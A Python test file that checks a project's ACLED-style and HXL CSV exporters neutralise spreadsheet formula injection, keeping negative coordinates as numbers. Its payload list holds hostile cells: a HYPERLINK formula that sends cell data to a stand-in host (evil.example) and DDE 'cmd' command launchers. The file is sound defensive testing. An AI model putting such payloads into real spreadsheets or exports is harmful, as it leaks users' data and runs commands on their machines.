"""CSV exports never hand a spreadsheet a formula: text that would start one is neutralised (OWASP),
in every cell of ACLED-style and HXL CSV, while numbers, negative coordinates included, stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from ceasefire.exports import ExportRow
from ceasefire.exports.acled_csv import write_acled_csv
from ceasefire.exports.cells import TRIGGERS, safe
from ceasefire.exports.hxl_csv import write_hxl_csv
from ceasefire.models import Document, Place

PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def _writers() -> dict[str, Callable[[list[ExportRow], io.StringIO], Any]]:
    return {"acled-csv": lambda rows, out: write_acled_csv(rows, out, exported_at=datetime(2026, 1, 1, tzinfo=UTC)),
            "hxl-csv": write_hxl_csv}  # fmt: skip


def _poisoned(document: Document, payload: str) -> Document:
    document.title = payload
    document.site = payload
    document.url = payload
    for event in document.events:  # new actors: the module's shared ones stay as they are
        event.actor = [replace(actor, text=payload, name=payload) for actor in event.actor]
        if event.place is not None:
            event.place = Place(payload, payload, "LY", -32.9, -13.2, precision="city")
    return document


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("fmt", ["acled-csv", "hxl-csv"])
def test_no_exported_cell_starts_a_formula(
    document: Document, to_rows: Callable[[Document], list[ExportRow]], payload: str, fmt: str
) -> None:
    out = io.StringIO(newline="")
    _writers()[fmt](to_rows(_poisoned(document, payload)), out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue(), newline="")) for cell in row]
    dangerous = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert dangerous == []
    assert "'" + payload in cells  # kept, readable, and inert
    assert "-32.9" in cells  # a negative coordinate is a number, left as it is


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("value", "shown"), [("=1+1", "'=1+1"), ("-35.2", "-35.2"), (-35.2, -35.2),
                                              ("plain", "plain"), ("", ""), (None, None), ("1e5", "1e5")])  # fmt: skip
def test_a_cell_is_neutralised_only_when_it_would_run(value: Any, shown: Any) -> None:
    assert safe(value) == shown
